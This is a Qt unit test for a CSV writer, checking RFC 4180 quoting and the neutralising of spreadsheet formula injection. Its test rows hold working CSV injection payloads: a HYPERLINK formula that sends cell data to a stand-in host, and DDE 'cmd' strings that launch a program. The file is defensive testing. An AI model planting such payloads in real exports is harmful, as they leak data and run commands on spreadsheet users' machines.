// The one CSV field writer: RFC 4180 quoting, and text cells that a spreadsheet would run as a
// formula (= + - @ tab CR first) neutralised with a single quote, numbers left as they are.
#include <QtTest>

#include "engine/core/csv.h"

using hs::CsvCell;
using hs::csvField;

class TestCsv : public QObject {
  Q_OBJECT
 private slots:
  void quotesPerRfc4180() {
    QCOMPARE(csvField("plain"), std::string("plain"));
    QCOMPARE(csvField(""), std::string(""));
    QCOMPARE(csvField("a,b"), std::string("\"a,b\""));
    QCOMPARE(csvField("say \"hi\""), std::string("\"say \"\"hi\"\"\""));
    QCOMPARE(csvField("two\nlines"), std::string("\"two\nlines\""));
    QCOMPARE(csvField("cr\rhere"), std::string("\"cr\rhere\""));
    QCOMPARE(csvField("a = b"), std::string("a = b"));  // only the first character counts
  }

  void neutralisesFormulaText_data() {
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QByteArray>("expected");
    QTest::newRow("hyperlink") << QByteArray("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")
                               << QByteArray("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
    QTest::newRow("dde") << QByteArray("+cmd|' /C calc'!A0") << QByteArray("\"'+cmd|' /C calc'!A0\"");
    QTest::newRow("minus") << QByteArray("-2+3+cmd|' /C calc'!A0")
                           << QByteArray("\"'-2+3+cmd|' /C calc'!A0\"");
    QTest::newRow("at") << QByteArray("@SUM(1+1)*cmd|' /C calc'!A0")
                        << QByteArray("\"'@SUM(1+1)*cmd|' /C calc'!A0\"");
    QTest::newRow("tab") << QByteArray("\t=1+1") << QByteArray("\"'\t=1+1\"");
    QTest::newRow("cr") << QByteArray("\r=1+1") << QByteArray("\"'\r=1+1\"");
    QTest::newRow("with comma") << QByteArray("=1,2") << QByteArray("\"'=1,2\"");
  }
  void neutralisesFormulaText() {
    QFETCH(QByteArray, text);
    QFETCH(QByteArray, expected);
    QCOMPARE(QByteArray::fromStdString(csvField(text.toStdString())), expected);
    QVERIFY(hs::csvNeedsNeutralising(text.toStdString()));
  }

  void numbersStayNumbers() {
    QCOMPARE(csvField("-0.25", CsvCell::Number), std::string("-0.25"));
    QCOMPARE(csvField("+1", CsvCell::Number), std::string("+1"));
    QCOMPARE(csvField("12", CsvCell::Number), std::string("12"));
    QCOMPARE(csvField("true", CsvCell::Number), std::string("true"));
    QVERIFY(!hs::csvNeedsNeutralising("0.5"));
    QVERIFY(!hs::csvNeedsNeutralising(""));
  }
};

QTEST_GUILESS_MAIN(TestCsv)
#include "test_csv.moc"
